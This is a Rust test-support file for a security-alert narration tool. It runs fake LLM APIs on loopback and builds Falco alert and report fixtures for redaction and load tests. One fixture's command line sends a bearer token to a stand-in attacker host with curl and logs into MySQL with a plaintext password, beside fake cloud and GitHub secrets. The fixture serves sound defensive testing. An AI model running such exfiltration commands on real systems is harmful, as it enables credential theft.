//! Fake LLM APIs on loopback (they stand for the external services), and report fixtures.
#![allow(dead_code)]

use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::post;
use axum::Router;
use fa_llm::{LlmConfig, ProviderKind};
use fa_model::{
    Alert, ClusterInfo, Confidence, EventDetails, Knowledge, Mitigation, MitigationKind, MitreRef,
    Reason, Report, Verdict, VerdictKind,
};
use serde_json::{json, Value};
use std::collections::VecDeque;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// What the fake API does with one request.
#[derive(Debug, Clone)]
pub enum Step {
    /// 200 with this answer object as the model's output.
    Answer(Value),
    /// 200 with the placeholders of the request echoed in the answer's summary.
    EchoPlaceholders,
    /// 200 whose model output is this text verbatim (malformed JSON, say).
    Raw(String),
    /// This status, an optional `Retry-After`, and a body.
    Status(u16, Option<String>, String),
    /// Sleep, then answer.
    Hang(Duration),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Api {
    OpenAi,
    Anthropic,
}

#[derive(Debug, Clone)]
pub struct Recorded {
    pub path: String,
    pub headers: Vec<(String, String)>,
    pub body: String,
}

impl Recorded {
    pub fn json(&self) -> Value {
        serde_json::from_str(&self.body).unwrap()
    }
    /// The prompt text the request carries (system and user).
    pub fn prompt_text(&self) -> String {
        let v = self.json();
        let mut s = String::new();
        if let Some(sys) = v["system"].as_str() {
            s.push_str(sys);
        }
        for m in v["messages"].as_array().into_iter().flatten() {
            s.push_str(m["content"].as_str().unwrap_or(""));
            s.push('\n');
        }
        s
    }
}

struct Shared {
    api: Api,
    script: Mutex<VecDeque<Step>>,
    default: Step,
    requests: Mutex<Vec<Recorded>>,
    in_flight: AtomicUsize,
    max_in_flight: AtomicUsize,
}

pub struct FakeApi {
    pub url: String,
    shared: Arc<Shared>,
}

impl FakeApi {
    /// Starts a fake API on 127.0.0.1 that plays `script`, then `default` for ever.
    pub async fn start(api: Api, script: Vec<Step>, default: Step) -> FakeApi {
        let shared = Arc::new(Shared {
            api,
            script: Mutex::new(script.into()),
            default,
            requests: Mutex::new(Vec::new()),
            in_flight: AtomicUsize::new(0),
            max_in_flight: AtomicUsize::new(0),
        });
        let app = Router::new()
            .route("/v1/chat/completions", post(handle))
            .route("/v1/messages", post(handle))
            .with_state(shared.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        FakeApi {
            url: format!("http://{addr}"),
            shared,
        }
    }

    pub fn requests(&self) -> Vec<Recorded> {
        self.shared.requests.lock().unwrap().clone()
    }

    pub fn count(&self) -> usize {
        self.shared.requests.lock().unwrap().len()
    }

    pub fn max_in_flight(&self) -> usize {
        self.shared.max_in_flight.load(Ordering::SeqCst)
    }

    /// A configuration for this server with short retry delays.
    pub fn config(&self) -> LlmConfig {
        let kind = match self.shared.api {
            Api::OpenAi => ProviderKind::OpenAi,
            Api::Anthropic => ProviderKind::Anthropic,
        };
        let mut cfg = LlmConfig::new(kind, "test-model", &self.url).unwrap();
        cfg.retry.base = Duration::from_millis(10);
        cfg.retry.cap = Duration::from_millis(40);
        cfg.timeout = Duration::from_secs(5);
        cfg.rate = 10_000.0;
        cfg.concurrency = 8;
        cfg
    }
}

async fn handle(
    State(s): State<Arc<Shared>>,
    headers: HeaderMap,
    uri: axum::http::Uri,
    body: String,
) -> Response {
    let now = s.in_flight.fetch_add(1, Ordering::SeqCst) + 1;
    s.max_in_flight.fetch_max(now, Ordering::SeqCst);
    let rec = Recorded {
        path: uri.path().to_string(),
        headers: headers
            .iter()
            .map(|(k, v)| (k.as_str().to_string(), v.to_str().unwrap_or("").to_string()))
            .collect(),
        body: body.clone(),
    };
    s.requests.lock().unwrap().push(rec.clone());
    let step = s
        .script
        .lock()
        .unwrap()
        .pop_front()
        .unwrap_or_else(|| s.default.clone());
    let resp = respond(&s, step, &rec).await;
    s.in_flight.fetch_sub(1, Ordering::SeqCst);
    resp
}

async fn respond(s: &Shared, step: Step, rec: &Recorded) -> Response {
    match step {
        Step::Answer(v) => envelope(s.api, Ok(v)),
        Step::EchoPlaceholders => {
            let re = regex::Regex::new(r"\[(HOST|IP|USER|SECRET|EMAIL|POD|NAMESPACE|ID)_[0-9]+\]")
                .unwrap();
            let mut seen: Vec<String> = re
                .find_iter(&rec.prompt_text())
                .map(|m| m.as_str().to_string())
                .collect();
            seen.sort();
            seen.dedup();
            let mut a = good_answer();
            a["summary"] = json!(format!("Seen: {}.", seen.join(" ")));
            envelope(s.api, Ok(a))
        }
        Step::Raw(text) => envelope(s.api, Err(text)),
        Step::Status(code, retry_after, body) => {
            let mut r = (StatusCode::from_u16(code).unwrap(), body).into_response();
            if let Some(ra) = retry_after {
                r.headers_mut().insert("retry-after", ra.parse().unwrap());
            }
            r
        }
        Step::Hang(d) => {
            tokio::time::sleep(d).await;
            envelope(s.api, Ok(good_answer()))
        }
    }
}

fn envelope(api: Api, answer: Result<Value, String>) -> Response {
    let body = match (api, answer) {
        (Api::OpenAi, a) => {
            let content = match a {
                Ok(v) => v.to_string(),
                Err(t) => t,
            };
            json!({
                "id": "chatcmpl-1", "object": "chat.completion", "model": "test-model",
                "choices": [{"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 900, "completion_tokens": 300, "total_tokens": 1200}
            })
        }
        (Api::Anthropic, Ok(v)) => json!({
            "id": "msg_1", "type": "message", "role": "assistant", "model": "test-model",
            "content": [{"type": "tool_use", "id": "toolu_1", "name": "write_alert_narrative", "input": v}],
            "stop_reason": "tool_use", "usage": {"input_tokens": 900, "output_tokens": 300}
        }),
        (Api::Anthropic, Err(t)) => json!({
            "id": "msg_1", "type": "message", "role": "assistant", "model": "test-model",
            "content": [{"type": "text", "text": t}],
            "stop_reason": "end_turn", "usage": {"input_tokens": 900, "output_tokens": 30}
        }),
    };
    (
        StatusCode::OK,
        [("content-type", "application/json")],
        body.to_string(),
    )
        .into_response()
}

/// A schema-valid answer with a correct mitigation.
pub fn good_answer() -> Value {
    json!({
        "summary": "An interactive shell ran in a production container.",
        "analysis": "The shell's parent is the container runtime, which is how `kubectl exec` looks.\n\nNothing shows the shell's purpose yet.",
        "mitigations": [{
            "kind": "prevent",
            "title": "Forbid privilege escalation",
            "text": "Start containers so that no process can gain privileges.",
            "example": {"lang": "docker", "code": "docker run --security-opt no-new-privileges nginx"}
        }],
        "next_steps": ["Ask the workload's owners whether someone exec'd into the container."]
    })
}

/// A Falco alert carrying every kind of value redaction must hide.
pub fn sensitive_alert() -> Alert {
    serde_json::from_value(json!({
        "time": "2025-05-18T10:18:28.625667668Z",
        "rule": "Terminal shell in container",
        "priority": "Notice",
        "source": "syscall",
        "hostname": "db-prod-7.corp.example.com",
        "tags": ["container", "mitre_execution", "T1059"],
        "output": "10:18:28.625667668: Notice A shell was spawned in a container with an attached terminal (user=alice container_id=3f2a9c1b7e44 pod=payments-api-5d9f ns=payments connection=10.42.7.19:443->203.0.113.77:51514)",
        "output_fields": {
            "container.id": "3f2a9c1b7e44",
            "container.name": "payments-api",
            "k8s.ns.name": "payments",
            "k8s.pod.name": "payments-api-5d9f",
            "user.name": "alice",
            "user.uid": 1000,
            "fd.sip": "203.0.113.77",
            "fd.cip": "10.42.7.19",
            "proc.name": "bash",
            "proc.pname": "runc",
            "proc.tty": 34816,
            "proc.cmdline": "bash -c curl -s -H 'Authorization: Bearer Zx81kQpL0mNa7BcD' https://exfil.attacker.example/u && mysql -u app -pS3cretPass -h db-prod-7",
            "proc.env": "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY GITHUB_TOKEN=ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ HOME=/home/alice MAIL=alice@corp.example.com"
        }
    }))
    .unwrap()
}

/// Raw values from `sensitive_alert` that must never be sent at the standard level.
pub const RAW_SECRETS: &[&str] = &[
    "db-prod-7",
    "corp.example.com",
    "exfil.attacker.example",
    "203.0.113.77",
    "10.42.7.19",
    "alice",
    "3f2a9c1b7e44",
    "payments",
    "Zx81kQpL0mNa7BcD",
    "S3cretPass",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ",
    "alice@corp.example.com",
];

/// A report as the deterministic engine writes it, with alert values in its text.
pub fn report_for(alert: &Alert) -> Report {
    let host = alert.hostname.clone().unwrap_or_default();
    let cmd = alert
        .field("proc.cmdline")
        .map(|c| c.into_owned())
        .unwrap_or_default();
    let event = EventDetails {
        rule: alert.rule.as_str().to_string(),
        priority: alert.priority,
        source: alert.source.clone(),
        hostname: alert.hostname.clone(),
        message: alert.message().map(str::to_string),
        ..Default::default()
    };
    let mut r = Report::skeleton(alert, format!("A shell ran on {host}: `{cmd}`"), event);
    r.knowledge = Some(Knowledge {
        curated: true,
        description: "A shell with a terminal attached started in a container: someone is working inside it by hand.".into(),
        false_positives: Some("Operators debugging with kubectl exec.".into()),
    });
    r.mitre = vec![MitreRef {
        tactic_id: Some("TA0002".into()),
        tactic: "Execution".into(),
        technique_id: Some("T1059.004".into()),
        technique: Some("Unix Shell".into()),
    }];
    r.verdict = Some(Verdict {
        kind: VerdictKind::Suspicious,
        confidence: Confidence::new(0.6),
        score: 6.0,
        reasons: vec![
            Reason {
                field: Some("rule".into()),
                text: "rule `Terminal shell in container` has base severity 5/10".into(),
                weight: 5.0,
            },
            Reason {
                field: Some("proc.tty".into()),
                text: "an interactive terminal is attached (tty 34816)".into(),
                weight: 1.0,
            },
        ],
    });
    r.investigation = vec![fa_model::Step {
        title: format!("See what else ran on {host}"),
        command: Some(format!(
            "kubectl -n payments logs payments-api-5d9f --since=1h # {host}"
        )),
        missing_fields: vec![],
    }];
    r.mitigations = vec![Mitigation {
        kind: MitigationKind::Respond,
        title: "Restrict exec".into(),
        text: "Limit who may use pods/exec with RBAC.".into(),
        example: None,
    }];
    r.next_steps = vec!["Confirm who opened the shell.".into()];
    r.cluster = Some(ClusterInfo {
        fingerprint: "00aa11bb22cc33dd".into(),
        count: 3,
        first_seen: None,
        last_seen: None,
    });
    r
}

/// What a storm of alerts cost.
#[derive(Debug, Clone)]
pub struct StormFigures {
    pub alerts: usize,
    pub clusters: usize,
    pub stats: fa_llm::LlmStats,
    pub narratives: usize,
    pub wall: Duration,
}

impl std::fmt::Display for StormFigures {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} alerts in {} clusters: {} requests, {} cache hits, {} misses, hit rate {:.2}%, {} tokens, {} narratives, {:.2} s",
            self.alerts,
            self.clusters,
            self.stats.requests,
            self.stats.cache_hits,
            self.stats.cache_misses,
            self.stats.hit_rate() * 100.0,
            self.stats.tokens,
            self.narratives,
            self.wall.as_secs_f64()
        )
    }
}

/// `alerts` alerts spread round-robin over `clusters` clusters, every alert narrated
/// concurrently (as a service would), against `cache`.
pub async fn storm(
    server: &FakeApi,
    alerts: usize,
    clusters: usize,
    cache: Box<dyn fa_llm::NarrativeCache>,
) -> StormFigures {
    let narrator = Arc::new(fa_llm::Narrator::new(server.config(), cache).unwrap());
    let base = sensitive_alert();
    let t = std::time::Instant::now();
    let mut set = tokio::task::JoinSet::new();
    for i in 0..alerts {
        let c = i % clusters;
        let mut alert = base.clone();
        // Members of a cluster share rule, image and command; hosts, pids and times differ.
        alert.output_fields.insert(
            "proc.cmdline".into(),
            json!(format!("bash -c /opt/job-{c}.sh --mode batch")),
        );
        alert
            .output_fields
            .insert("proc.pid".into(), json!(1000 + i));
        alert.hostname = Some(format!("node-{}.corp.example.com", i % 7));
        let key = fa_llm::CacheKey::new(format!("{:016x}", 0xc0ffee00u64 + c as u64));
        let n = narrator.clone();
        set.spawn(async move {
            let report = report_for(&alert);
            n.narrate(&key, &report, &alert).await.result.is_ok()
        });
    }
    let mut narratives = 0;
    while let Some(ok) = set.join_next().await {
        if ok.unwrap_or(false) {
            narratives += 1;
        }
    }
    StormFigures {
        alerts,
        clusters,
        stats: narrator.stats(),
        narratives,
        wall: t.elapsed(),
    }
}
